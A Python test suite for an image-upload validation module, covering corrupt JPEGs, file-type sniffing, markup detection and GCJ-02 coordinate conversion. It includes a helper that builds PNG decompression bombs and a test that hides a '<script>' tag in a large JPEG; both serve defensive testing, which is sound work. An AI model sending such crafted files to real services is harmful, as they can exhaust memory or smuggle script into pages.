def test_jpeg_magic_then_garbage(tmp_path):
    path = tmp_path / "fake.jpg"
    path.write_bytes(
        b"\xff\xd8\xff\xe0" + bytes(b for b in random.Random(3).randbytes(5000) if b != 60)
    )
    refused(path, "evidence.corrupt_image")


def _png_bomb(path: Path, width: int, height: int) -> Path:
    """A valid 1-bit greyscale PNG of width x height, all zeros: megapixels in a few kilobytes."""
    chunk = _png_chunk
    row = b"\x00" * (1 + (width + 7) // 8)
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    path.write_bytes(
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
        + chunk(b"IDAT", idat)
        + chunk(b"IEND", b"")
    )
    return path


def test_decompression_bomb_beyond_pillows_hard_limit(tmp_path):
    path = _png_bomb(tmp_path / "bomb.png", 30_000, 30_000)
    assert path.stat().st_size < 200_000
    refused(path, "evidence.decompression_bomb")
    with pytest.raises(DomainError) as caught:
        make_thumbnail(path, tmp_path / "t.jpg")
    assert caught.value.code == "evidence.decompression_bomb"


@pytest.mark.parametrize("action", ["error", "ignore", "default"])
def test_decompression_bomb_warning_is_an_error_whatever_the_filters(tmp_path, monkeypatch, action):
    # Between Pillow's warning and error thresholds Pillow only warns: we refuse all the same.
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 89_478_485)
    path = _png_bomb(tmp_path / "bomb.png", 10_000, 10_000)
    with warnings.catch_warnings(record=True):
        warnings.simplefilter(action, Image.DecompressionBombWarning)
        refused(path, "evidence.decompression_bomb")
        with pytest.raises(DomainError, match="evidence.decompression_bomb"):
            make_thumbnail(path, tmp_path / "t.jpg")


def test_a_limit_above_pillows_default_is_honoured(tmp_path, monkeypatch):
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 89_478_485)
    path = _png_bomb(tmp_path / "big.png", 10_000, 10_000)
    assert inspect(path, max_pixels=100_000_000).width == 10_000
    refused(path, "evidence.decompression_bomb", max_pixels=99_999_999)


def test_our_pixel_limit_applies_below_pillows(tmp_path):
    path = _png_bomb(tmp_path / "big.png", 2_000, 2_000)
    error = refused(path, "evidence.decompression_bomb", max_pixels=1_000_000)
    assert error.params == {"pixels": 4_000_000, "limit": 1_000_000}
    assert inspect(path, max_pixels=4_000_000).width == 2_000


def test_every_code_is_in_the_catalogue_in_both_languages():
    for code in (
        "evidence.empty",
        "evidence.too_large",
        "evidence.not_an_image",
        "evidence.markup_content",
        "evidence.decompression_bomb",
        "evidence.corrupt_image",
    ):
        problem = CATALOGUE[code]
        assert problem.en and problem.zh and problem.status in (413, 422)


# --- sniffing and the markup scan ---------------------------------------------------------


def _ftyp(major: bytes, *compatible: bytes) -> bytes:
    body = major + b"\x00\x00\x00\x00" + b"".join(compatible)
    return struct.pack(">I", 8 + len(body)) + b"ftyp" + body + b"\x00" * 32


@pytest.mark.parametrize(
    ("head", "expected"),
    [
        (b"\xff\xd8\xff\xe1\x00\x10Exif", "image/jpeg"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "image/png"),
        (_ftyp(b"heic", b"mif1", b"heic"), "image/heic"),
        (_ftyp(b"heix", b"mif1"), "image/heic"),
        (_ftyp(b"mif1", b"mif1", b"heic"), "image/heif"),
        (_ftyp(b"avif", b"mif1", b"avif"), None),
        (_ftyp(b"mif1", b"mif1", b"avif"), None),
        (_ftyp(b"isom", b"mp42"), None),
        (b"\x00\x00\x00\x08ftypheic", None),  # box too short to be an ftyp
        (b"GIF89a", None),
        (b"<svg", None),
        (b"", None),
        (b"\xff\xd8", None),
    ],
)
def test_sniff(head, expected):
    assert sniff(head) == expected


def test_sniff_the_real_heic():
    assert sniff(photo("heic_mobile_iphone_13_pro_max.HEIC").read_bytes()[:64]) == "image/heic"


@given(
    prefix=st.binary(max_size=300).filter(lambda b: b"<" not in b),
    case=st.sampled_from(PAYLOADS),
    suffix=st.binary(min_size=1, max_size=300),
    at_end=st.booleans(),
    chunk=st.integers(min_value=1, max_value=64),
)
def test_find_markup_across_chunk_boundaries(prefix, case, suffix, at_end, chunk):
    payload, marker = case
    if at_end:
        data = prefix + payload
    elif payload in AT_END_ONLY:
        return
    else:
        data = prefix + payload + b"\x00" + suffix
    assert find_markup(io.BytesIO(data), chunk=chunk) == marker


class _RandomBytes(io.RawIOBase):
    """`size` seeded random bytes, made as they are read."""

    def __init__(self, seed: int, size: int) -> None:
        self.rng, self.left = random.Random(seed), size

    def readable(self) -> bool:
        return True

    def read(self, n: int = -1) -> bytes:
        n = min(self.left, n if n >= 0 else self.left)
        self.left -= n
        return self.rng.randbytes(n)


def test_no_markup_in_256_mb_of_random_bytes():
    """Compressed pixels, HEVC and video look like this. Tag openers are in it by the
    thousand; none is followed by enough text to be markup."""
    openers = re.compile(
        b"<(?:" + b"|".join(re.escape(o.encode()) for o in imaging._MARKUP_OPENERS) + b")",
        re.IGNORECASE,
    )
    seen = 0

    class Counting(_RandomBytes):
        def read(self, n: int = -1) -> bytes:
            nonlocal seen
            block = super().read(n)
            seen += len(openers.findall(block))
            return block

    assert find_markup(Counting(seed=5, size=256 << 20)) is None
    assert seen > 5_000


def test_markup_false_positive_bound_is_what_the_comment_says():
    """At one position random bytes match an opener and its run with probability 2**-bits;
    summed over the openers that is the rate per byte the module's comment promises."""

    def rate(bits: float) -> float:
        total = 0.0
        for opener in imaging._MARKUP_OPENERS:
            p = 1 / 256 * math.prod(2 / 256 if c.isalpha() else 1 / 256 for c in opener)
            if opener[-1].isalpha():
                p *= 7 / 256
            total += p * (98 / 256) ** imaging._markup_run(opener, bits)
        return total

    assert rate(imaging._MARKUP_BITS) <= 2.5e-16
    assert rate(imaging._MARKUP_AT_END_BITS) / (1 - 98 / 256) <= 2.7e-11


def test_find_markup_on_clean_photos():
    for path in PHOTOS.iterdir():
        assert find_markup(path) is None, path.name


def test_markup_scan_keeps_memory_flat(tmp_path):
    path = tmp_path / "big.jpg"
    block = photo("jpg_gps_DSCN0010.jpg").read_bytes()[:-2].replace(b"<", b"(")
    with open(path, "wb") as f:
        for _ in range(30 * (1 << 20) // len(block) + 1):
            f.write(block)
        f.write(b"<script>")
    tracemalloc.start()
    try:
        assert find_markup(path) == "<script"
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 5 << 20, f"peak {peak} bytes while scanning {path.stat().st_size} bytes"


# --- GCJ-02 -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("wgs", "gcj"),
    [
        # googollee/eviltransform test vectors (wgsLat, wgsLng) -> (gcjLat, gcjLng)
        ((31.1774276, 121.5272106), (31.17530398364597, 121.531541859215)),  # Shanghai
        ((22.543847, 113.912316), (22.540796131694766, 113.9171764808363)),  # Shenzhen
        ((39.911954, 116.377817), (39.91334545536069, 116.38404722455657)),  # Beijing
        # wandergis/coordtransform README example, wgs84togcj02(116.404, 39.915)
        ((39.915, 116.404), (39.91640428150164, 116.41024449916938)),
    ],
)
def test_wgs84_to_gcj02_published_pairs(wgs, gcj):
    assert wgs84_to_gcj02(*wgs) == pytest.approx(gcj, abs=1e-9)


@pytest.mark.parametrize(
    "wgs", [(43.467448, 11.885127), (51.5, -0.12), (-33.9, 151.2), (0.0, 0.0), (60.0, 120.0)]
)
def test_gcj02_is_identity_outside_china(wgs):
    assert wgs84_to_gcj02(*wgs) == wgs


def test_pillow_is_imported_only_by_imaging():
    root = Path(imaging.__file__).resolve().parents[1]
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "imaging.py"
        and any(
            line.lstrip().startswith(
                ("import PIL", "from PIL", "import pillow_heif", "from pillow_heif")
            )
            for line in path.read_text(encoding="utf-8").splitlines()
        )
    ]
    assert offenders == []
